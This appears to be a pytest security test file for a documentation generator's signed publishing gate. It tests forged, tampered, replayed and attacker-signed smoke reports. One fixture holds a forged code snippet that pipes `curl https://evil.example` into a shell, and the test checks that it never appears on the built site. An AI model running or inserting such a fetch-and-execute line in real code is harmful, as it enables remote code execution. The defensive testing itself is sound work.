"""A gate a pull request cannot forge: a smoke report counts for `kb build --require-smoke` only when an
allowed signer signed it, the allowed signers are read where a pull request cannot change them, a
signature binds the report to its card and inputs, and cited snippets come from the pinned commit, never
from the tree's word (SECURITY.md, "Publishing gate")."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.factory import FORGE, make_card, mirror_forge, new_project, write_card, write_yaml
from tests.repos.conftest import Upstream
from tests.security.conftest import run, with_site
from tests.signing import ALLOWED, Key, allow, new_key, sign_file
from tests.smoke.conftest import SmokeProject

pytestmark = pytest.mark.slow

SMOKE = {"checkpoint": "tiny", "input": {"kind": "dna", "length": 64}}


def smoke_card(card_id: str, **over: object) -> dict:
    return make_card(id=card_id, alias=card_id, smoke_test=SMOKE, **over)


@pytest.fixture
def maintainer(tmp_path: Path) -> Key:
    return new_key(tmp_path / "maintainer", "kb-smoke")


@pytest.fixture
def attacker(tmp_path: Path) -> Key:
    return new_key(tmp_path / "attacker", "kb-smoke")


@pytest.fixture
def project(tmp_path: Path, maintainer: Key) -> Path:
    root = new_project(tmp_path)
    for card_id in ("tiny-a", "tiny-b"):
        write_card(root, smoke_card(card_id))
    allow(root, ("maintainer", maintainer))
    return root


def inputs_hash(root: Path, card_id: str) -> str:
    """The hash the gate expects, as anyone can work it out offline from the card."""
    from generator.knowledge import load_knowledge_base
    from generator.settings import Project
    from generator.smoke.fingerprint import card_inputs_hash

    project = Project.load(root)
    kb, _ = load_knowledge_base(project.root, None, project.kb_dir, project.smoke_dir)
    loaded = kb.get("model", card_id)
    assert loaded is not None
    value = card_inputs_hash(project, loaded)
    assert value is not None
    return value


def report(
    root: Path, card_id: str, status: str = "passed", signed: Key | None = None, **over: object
) -> Path:
    path = root / "artifacts" / "smoke" / f"{card_id}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    data = {
        "status": status,
        "summary": "12 check(s) passed on cpu",
        "device": "cpu",
        "finished_at": "2026-12-01T10:00:00+00:00",
        "inputs_hash": inputs_hash(root, card_id),
        **over,
    }
    path.write_text(json.dumps(data), encoding="utf-8")
    if signed is not None:
        sign_file(path, signed, "maintainer")
    return path


def gate(root: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return run(root, "build", "--no-pdf", "--require-smoke", env=env)


def refused(done: subprocess.CompletedProcess[str], card_id: str) -> str:
    """The gate's reason for `card_id` (the build was refused and published nothing)."""
    assert done.returncode == 1, done.stderr
    prefix = f"  kb/model_cards/{card_id}.yaml: "
    return next(line for line in done.stderr.splitlines() if line.startswith(prefix))[len(prefix) :]


def test_a_forged_report_does_not_pass_and_the_page_says_why(project: Path, maintainer: Key) -> None:
    report(project, "tiny-a")  # committed by a pull request: "passed", the right inputs hash, no signature
    report(project, "tiny-b", signed=maintainer)
    done = gate(project)
    assert (
        refused(done, "tiny-a") == "smoke test passed, but the report is not verified: the report is unsigned"
    )
    assert "tiny-b.yaml" not in done.stderr
    assert not (project / "site").exists()
    built = run(project, "build", "--no-pdf")
    assert built.returncode == 0, built.stderr
    page = (project / "site" / "models" / "tiny-a" / "index.html").read_text(encoding="utf-8")
    assert "Smoke test: passed, not verified" in page and "Not verified: the report is unsigned." in page
    signed = (project / "site" / "models" / "tiny-b" / "index.html").read_text(encoding="utf-8")
    assert "Smoke test: passed</p>" in signed and "Signed by maintainer on " in signed


def test_a_report_changed_after_signing_does_not_pass(project: Path, maintainer: Key) -> None:
    path = report(project, "tiny-a", "failed", signed=maintainer, summary="pooling: NaN in the output")
    data = json.loads(path.read_text())
    data.update(status="passed", summary="12 check(s) passed on cpu")
    path.write_text(json.dumps(data))
    report(project, "tiny-b", signed=maintainer)
    assert refused(gate(project), "tiny-a") == (
        "smoke test passed, but the report is not verified: the signature does not match the report: it was "
        "changed after signing"
    )


def test_a_report_signed_by_another_key_does_not_pass(project: Path, attacker: Key) -> None:
    from generator.signing import fingerprint

    report(project, "tiny-a", signed=attacker)
    report(project, "tiny-b", signed=attacker)
    assert refused(gate(project), "tiny-a") == (
        "smoke test passed, but the report is not verified: signed by a key that is not an allowed signer "
        f"({fingerprint(attacker.public)}, calling itself 'maintainer'; allowed signers: {ALLOWED})"
    )


def git(root: Path, *args: str) -> None:
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x.org", "GIT_COMMITTER_NAME": "t"}
    import os

    subprocess.run(
        ["git", "-C", str(root), *args],
        env={**os.environ, **env, "GIT_COMMITTER_EMAIL": "t@x.org"},
        check=True,
        capture_output=True,
    )


def test_a_key_the_pull_request_adds_is_not_allowed_in_its_own_checks(
    project: Path, maintainer: Key, attacker: Key, tmp_path: Path
) -> None:
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "main: the maintainer's allowed signers")
    git(project, "checkout", "-q", "-b", "pull-request")
    # The pull request adds its own key to the allowed signers (and a second file, named in mkdocs.yml).
    with (project / ALLOWED).open("a") as fh:
        fh.write(f"maintainer {attacker.public}\n")
    (project / "mine").write_text(f"maintainer {attacker.public}\n")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace(ALLOWED, "mine"))
    report(project, "tiny-a", signed=attacker)
    report(project, "tiny-b", signed=attacker)
    git(project, "add", "-A", "-f")
    git(project, "commit", "-q", "-m", "a pull request")
    # Its CI reads the trust-bearing settings from the base branch, or the signers from outside the tree.
    for env in ({"KB_TRUSTED_REF": "main"}, {"KB_ALLOWED_SIGNERS": str(_outside(tmp_path, maintainer))}):
        assert "is not an allowed signer" in refused(gate(project, env), "tiny-a"), env
    # The maintainer's signatures still pass there.
    report(project, "tiny-a", signed=maintainer)
    report(project, "tiny-b", signed=maintainer)
    done = gate(project, {"KB_TRUSTED_REF": "main"})
    assert done.returncode == 0, done.stderr


def _outside(tmp_path: Path, key: Key) -> Path:
    path = tmp_path / "ci" / "allowed_signers"
    path.parent.mkdir()
    path.write_text(f"smoke-ci {key.public}\n")
    return path


def test_a_signed_pass_cannot_be_replayed(project: Path, maintainer: Key) -> None:
    # Onto another card: the signature names the card.
    shutil.copy(report(project, "tiny-a", signed=maintainer), project / "artifacts/smoke/tiny-b.json")
    assert refused(gate(project), "tiny-b") == (
        "smoke test passed, but the report is not verified: the report is for card 'tiny-a', not 'tiny-b'"
    )
    # Onto another checkpoint: the pinned hub revision is an input, so the signed pass goes stale.
    report(project, "tiny-b", signed=maintainer)
    card = smoke_card("tiny-a")
    card["checkpoints"] = [{"name": "tiny", "path": "tiny", "hub_id": "example/tiny", "revision": "e" * 40}]
    write_card(project, card)
    assert refused(gate(project), "tiny-a") == "smoke test stale"


def test_kb_smoke_signs_and_the_gate_verifies(smoke_project: SmokeProject, tmp_path: Path) -> None:
    key = new_key(tmp_path / "maintainer")
    root = with_site(smoke_project.root)
    for card in (root / "kb" / "model_cards").glob("*.yaml"):
        if card.stem != "tiny-nt":
            card.unlink()
    allow(root, ("maintainer@lab.example", key))
    inside = root / ".kb" / "key"
    shutil.copy(key.path, inside)
    done = run(root, "smoke", "--device", "cpu", env={"KB_SIGNING_KEY": str(inside)})
    assert done.returncode == 1
    assert "the signing key is inside the project, where a commit could publish it" in done.stderr
    inside.unlink()
    done = run(root, "smoke", "--device", "cpu", env={"KB_SIGNING_KEY": str(key.path)})
    assert done.returncode == 0, done.stderr
    assert "kb smoke: signing reports as maintainer@lab.example (SHA256:" in done.stderr
    signature = smoke_project.report("tiny-nt")["signature"]
    assert signature["signer"] == "maintainer@lab.example" and signature["key"] == key.public
    built = gate(root)
    assert built.returncode == 0, built.stderr
    page = (root / "site" / "models" / "tiny-nt" / "index.html").read_text(encoding="utf-8")
    when = signature["signed_at"].replace("T", " ").removesuffix("+00:00")
    assert f"Signed by maintainer@lab.example on {when} UTC." in page


def test_a_forged_snippet_is_never_shown_as_upstream_code(tmp_path: Path) -> None:
    forge = tmp_path / "forge"
    root = new_project(tmp_path)
    mirror_forge(root, forge)
    from git import Repo

    Repo.init(forge / "model", initial_branch="main")
    up = Upstream(forge / "model")
    with up.repo.config_writer() as cw:
        cw.set_value("user", "name", "Dev").set_value("user", "email", "dev@example.org")
    sha = up.commit("v1", {"src/model.py": "def encode(x):\n    return x\n"})
    step = {
        "title": "Encode",
        "stage": "encode",
        "prose": "The model.",
        "cite": {"path": "src/model.py", "lines": [1, 2]},
    }
    write_card(
        root, make_card(repo={"name": "model", "url": f"{FORGE}model", "commit": sha}, walkthrough=[step])
    )
    forged = "def encode(x):\n    import os; os.system('curl https://evil.example | sh')\n"
    write_yaml(
        root / "kb/model_cards/tiny-bert.lock.yaml",
        {
            "repo": "model",
            "commit": sha,
            "citations": [{"path": "src/model.py", "lines": [1, 2], "snippet": forged}],
        },
    )
    built = run(root, "build", "--no-pdf")
    assert built.returncode == 0, built.stderr
    page = (root / "site" / "models" / "tiny-bert" / "index.html").read_text(encoding="utf-8")
    assert "evil.example" not in page
    assert f"https://github.com/example/model/blob/{sha}/src/model.py#L1-L2" in page
    # The publishing build syncs first: the snippet is then read at the pinned commit.
    assert run(root, "repos", "sync").returncode == 0
    assert run(root, "build", "--no-pdf").returncode == 0
    page = (root / "site" / "models" / "tiny-bert" / "index.html").read_text(encoding="utf-8")
    source = (root / "site_src" / "models" / "tiny-bert.md").read_text(encoding="utf-8")
    assert "evil.example" not in page and "def encode(x):\n    return x\n" in source
    assert "evil.example" not in (root / "kb/model_cards/tiny-bert.lock.yaml").read_text()
